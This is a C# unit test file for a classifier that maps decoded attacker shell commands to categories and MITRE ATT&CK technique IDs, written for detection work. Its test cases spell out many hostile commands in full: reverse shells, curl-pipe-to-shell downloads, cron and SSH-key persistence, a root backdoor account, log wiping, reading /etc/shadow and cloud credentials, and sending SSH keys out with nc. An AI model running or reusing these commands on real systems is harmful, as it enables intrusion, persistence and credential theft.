using System;
using System.IO;
using System.Linq;
using B64Hunt.Classification;
using B64Hunt.Model;
using Xunit;

namespace B64Hunt.Tests.Classification
{
    public class CommandClassifierTests
    {
        internal static CategoryRuleSet Bundled => CategoryRuleSet.LoadBundled(Path.Combine(AppContext.BaseDirectory, "data"));

        private static readonly CommandClassifier Classifier = new CommandClassifier(Bundled);

        private static CategoryMatch Classify(string? command) => Classifier.Classify(command);

        [Theory]
        // the notebook's five
        [InlineData("wget http://198.51.100.7/x86 -O /tmp/.x", "Network connections/Downloading", "T1105")]
        [InlineData("curl -fsSL https://pastebin.example/raw/abc -o /dev/shm/k", "Network connections/Downloading", "T1105")]
        [InlineData("python3 -c \"import urllib.request;urllib.request.urlretrieve('http://x/a','/tmp/a')\"", "Network connections/Downloading", "T1105")]
        [InlineData("chmod 777 /tmp/.x", "File manipulation", "T1222.002")]
        [InlineData("cp /bin/bash /tmp/.b", "File manipulation", null)]
        [InlineData("uname -a; cat /proc/cpuinfo | grep name | head -n 1", "Host enumeration", "T1082")]
        [InlineData("ps aux | grep -v grep", "Host enumeration", "T1057")]
        [InlineData("cat /etc/passwd", "Host enumeration", "T1087.001")]
        [InlineData("whoami; id; w", "Host enumeration", "T1033")]
        [InlineData("ifconfig -a; netstat -antp", "Host enumeration", "T1049")]
        [InlineData("rm -rf /tmp/.x /var/tmp/.y", "File/Process deletion/killing", "T1070.004")]
        [InlineData("pkill -9 -f kdevtmpfsi; killall xmr", "File/Process deletion/killing", "T1489")]
        [InlineData("tar czf /tmp/.d.tgz /home/*/.ssh", "Archive/Compression programs", "T1560.001")]
        [InlineData("cd /tmp && unzip -o p.zip", "Archive/Compression programs", "T1560.001")]
        // reverse shell
        [InlineData("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "Reverse shell", "T1059.004")]
        [InlineData("0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196", "Reverse shell", "T1095")]
        [InlineData("nc -e /bin/sh 203.0.113.5 4444", "Reverse shell", "T1059.004")]
        [InlineData("ncat 203.0.113.5 4444 -e /bin/bash", "Reverse shell", "T1059.004")]
        [InlineData("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f", "Reverse shell", "T1059.004")]
        [InlineData("socat tcp-connect:203.0.113.5:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane", "Reverse shell", "T1095")]
        [InlineData("python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")'", "Reverse shell", "T1059.006")]
        [InlineData("perl -e 'use Socket;$i=\"203.0.113.5\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'", "Reverse shell", "T1095")]
        [InlineData("php -r '$sock=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "Reverse shell", "T1095")]
        [InlineData("TF=$(mktemp -u);mkfifo $TF && telnet 203.0.113.5 4444 0<$TF | sh 1>$TF", "Reverse shell", "T1059.004")]
        // persistence
        [InlineData("(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL http://x/s.sh | sh') | crontab -", "Persistence", "T1053.003")]
        [InlineData("echo '* * * * * root /tmp/.x/upd' >> /etc/crontab", "Persistence", "T1053.003")]
        [InlineData("cat > /etc/systemd/system/dbus-x.service <<EOF\n[Service]\nExecStart=/tmp/.x/run\nEOF\nsystemctl enable dbus-x", "Persistence", "T1543.002")]
        [InlineData("echo '/tmp/.x/run &' >> /etc/rc.local", "Persistence", "T1037.004")]
        [InlineData("echo 'nohup /tmp/.x/run >/dev/null 2>&1 &' >> ~/.bashrc", "Persistence", "T1546.004")]
        [InlineData("mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2E attacker' >> ~/.ssh/authorized_keys", "Persistence", "T1098.004")]
        [InlineData("echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload", "Persistence", "T1574.006")]
        [InlineData("echo '/tmp/x' | at now + 1 minute", "Persistence", "T1053.002")]
        [InlineData("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor", "Persistence", "T1136.001")]
        // crypto mining
        [InlineData("nohup ./xmrig -o pool.supportxmr.com:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -p x --donate-level 1 &", "Crypto mining", "T1496")]
        [InlineData("/tmp/.k/kthreaddk -B -o stratum+tcp://198.51.100.9:45700 -u wallet", "Crypto mining", "T1496")]
        [InlineData("./cpuminer -a cryptonight -o xmr.pool.example:14444", "Crypto mining", "T1496")]
        // defence evasion
        [InlineData("history -c; rm -f ~/.bash_history", "Defense evasion", "T1070.003")]
        [InlineData("unset HISTFILE; export HISTSIZE=0", "Defense evasion", "T1562.003")]
        [InlineData("export HISTFILE=/dev/null", "Defense evasion", "T1562.003")]
        [InlineData("iptables -F; iptables -X", "Defense evasion", "T1562.004")]
        [InlineData("ufw disable", "Defense evasion", "T1562.004")]
        [InlineData("setenforce 0", "Defense evasion", "T1562.001")]
        [InlineData("systemctl stop auditd; systemctl disable auditd", "Defense evasion", "T1562.001")]
        [InlineData("pkill -f aliyun-service", "Defense evasion", "T1562.001")]
        [InlineData("chattr +i /etc/ld.so.preload", "Defense evasion", "T1222.002")]
        [InlineData("cat /dev/null > /var/log/auth.log; > /var/log/wtmp", "Defense evasion", "T1070.002")]
        [InlineData("shred -u /var/log/secure", "Defense evasion", "T1070.002")]
        [InlineData("touch -r /bin/ls /tmp/.x/run", "Defense evasion", "T1070.006")]
        [InlineData("echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | sh", "Defense evasion", "T1140")]
        // privilege escalation
        [InlineData("sudo -n /bin/bash -p", "Privilege escalation", "T1548.003")]
        [InlineData("chmod u+s /tmp/.b", "Privilege escalation", "T1548.001")]
        [InlineData("chmod 4755 /tmp/.b", "Privilege escalation", "T1548.001")]
        [InlineData("setcap cap_setuid+ep /tmp/python3", "Privilege escalation", "T1548")]
        [InlineData("echo 'www-data ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "Privilege escalation", "T1548.003")]
        [InlineData("pkexec /bin/sh", "Privilege escalation", "T1548")]
        [InlineData("docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "Privilege escalation", "T1611")]
        // credential access
        [InlineData("cat /etc/shadow", "Credential access", "T1003.008")]
        [InlineData("cp /etc/shadow /tmp/.s", "Credential access", "T1003.008")]
        [InlineData("cat ~/.aws/credentials; cat ~/.kube/config", "Credential access", "T1552.001")]
        [InlineData("tar czf - ~/.ssh/id_rsa ~/.docker/config.json | nc 203.0.113.5 80", "Credential access", "T1552.004")]
        [InlineData("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", "Credential access", "T1552.005")]
        [InlineData("env | grep -i secret", "Credential access", "T1552.001")]
        [InlineData("python3 -c \"print(open('/etc/shadow').read())\"", "Credential access", "T1003.008")]
        [InlineData("find / -name id_rsa 2>/dev/null", "Credential access", "T1552.004")]
        // execution of downloaded code
        [InlineData("curl -s http://198.51.100.7/i.sh | bash", "Execution of downloaded code", "T1105")]
        [InlineData("wget -q -O- http://198.51.100.7/i.sh | sudo sh -s", "Execution of downloaded code", "T1059.004")]
        [InlineData("curl -fsSL http://x/a.py | python3 -", "Execution of downloaded code", "T1059.006")]
        [InlineData("bash <(curl -s http://198.51.100.7/i.sh)", "Execution of downloaded code", "T1059.004")]
        [InlineData("bash -c \"$(wget -qO- http://198.51.100.7/i.sh)\"", "Execution of downloaded code", "T1059.004")]
        [InlineData("cd /tmp; wget http://198.51.100.7/bot -O .b; chmod +x .b; ./.b", "Execution of downloaded code", "T1105")]
        [InlineData("curl -o /tmp/k http://x/k && chmod 755 /tmp/k && /tmp/k -d", "Execution of downloaded code", "T1105")]
        [InlineData("wget http://x/s.sh -O /tmp/s.sh; sh /tmp/s.sh", "Execution of downloaded code", "T1059.004")]
        [InlineData("curl http://x | base64 -d | bash", "Execution of downloaded code", "T1059.004")]
        public void CategorisesRealAttackerCommands(string command, string category, string? technique)
        {
            var match = Classify(command);
            Assert.Contains(category, match.Categories);
            if (technique != null) Assert.Contains(technique, match.Techniques);
        }

        [Theory]
        [InlineData("cat /tmp/cpu", new string[0])]                 // cp in cpu
        [InlineData("sed -n 1p /tmp/notes", new string[0])]         // ed in sed
        [InlineData("format-report --all", new string[0])]          // rm in format
        [InlineData("cat notes.txt", new string[0])]                // at in cat
        [InlineData("echo rm -rf / ; echo curl x | cat", new string[0])]
        [InlineData("grep -r 'wget' /opt", new string[0])]
        [InlineData("ls /usr/bin/rm /usr/bin/xmrig", new[] { "Host enumeration" })]
        [InlineData("#!/bin/bash\n# wget http://x | sh", new string[0])]
        public void SubstringsAndArgumentsAreNotCommands(string command, string[] categories)
        {
            Assert.Equal(categories, Classify(command).Categories);
        }

        [Theory]
        [InlineData("crontab -l")]
        [InlineData("echo $(curl -s http://x/ip)")]
        [InlineData("curl -o /tmp/a http://x; chmod +x /usr/local/bin/tool; tool")]
        [InlineData("bash -c 'cd $(mktemp -d) && curl -O http://x/readme.txt'")]
        [InlineData("cat ~/.bash_history")]
        [InlineData("ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''")]
        [InlineData("cat /etc/shadowsocks/config.json")]
        [InlineData("python3 -c 'print(\"/etc/shadowsocks\")'")]
        [InlineData("nc -c -z mail.example.com 465")]
        public void LookalikesDoNotGetTheCategory(string command)
        {
            var match = Classify(command);
            Assert.DoesNotContain("Execution of downloaded code", match.Categories);
            Assert.DoesNotContain("Persistence", match.Categories);
            Assert.DoesNotContain("Credential access", match.Categories.Where(_ => !command.Contains("bash_history")));
            Assert.DoesNotContain("Defense evasion", match.Categories);
            Assert.DoesNotContain("Reverse shell", match.Categories);
        }

        [Fact]
        public void NestedCodeIsCategorised()
        {
            Assert.Contains("Network connections/Downloading", Classify("sh -c 'wget http://x/a'").Categories);
            Assert.Contains("File/Process deletion/killing", Classify("python -c 'import os;os.system(\"rm -rf /var/tmp/x\")'").Categories);
            Assert.Contains("Reverse shell", Classify("perl -e 'system(\"nc -e /bin/sh 203.0.113.5 80\")'").Categories);
            Assert.Contains("Execution of downloaded code", Classify("echo '* * * * * wget -q -O- http://x/p | sh' | crontab -").Categories);
            Assert.Contains("Defense evasion", Classify("find /var/log -type f -exec rm -f {} \\;").Categories);
            Assert.Contains("Reverse shell", Classify("printf '[Service]\\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"\\n' > /etc/systemd/system/x.service").Categories);
            Assert.Contains("Execution of downloaded code", Classify("bash <<EOF\ncurl -s http://x | sh\nEOF").Categories);
        }

        [Fact]
        public void HereDocumentDataIsNotCode()
        {
            var match = Classify("cat > /tmp/readme <<'EOF'\nrm -rf / ; curl http://x | sh\nEOF");
            Assert.DoesNotContain("Execution of downloaded code", match.Categories);
            Assert.DoesNotContain("File/Process deletion/killing", match.Categories);
        }

        [Fact]
        public void CategoriesAndTechniquesComeInRuleOrderWithoutDuplicates()
        {
            var match = Classify("curl -s http://x/i.sh | bash; wget http://y -O /tmp/y; rm -f /tmp/y");
            Assert.Equal(new[] { "Network connections/Downloading", "File/Process deletion/killing", "Execution of downloaded code" }, match.Categories);
            Assert.Equal(match.Techniques.Distinct(), match.Techniques);
            Assert.Contains("net-download-tools", match.RuleIds);
        }

        [Fact]
        public void EnrichAppendsWithoutDuplicatesAndSkipsBinary()
        {
            var e = new CommandEvent { DecodedCommand = "wget http://x -O /tmp/x" };
            e.Categories.Add("Network connections/Downloading");
            Classifier.Enrich(e);
            Classifier.Enrich(e);
            Assert.Equal(new[] { "Network connections/Downloading" }, e.Categories);
            Assert.Contains("T1105", e.Techniques);
            var binary = new CommandEvent { DecodedCommand = "wget", IsBinary = true };
            Classifier.Enrich(binary);
            Assert.Empty(binary.Categories);
        }

        [Fact]
        public void EmptyTextHasNoCategory()
        {
            Assert.Empty(Classify("").Categories);
            Assert.Empty(Classify(null).Categories);
            Assert.Same(Classify("id"), Classify("id"));
        }
    }
}
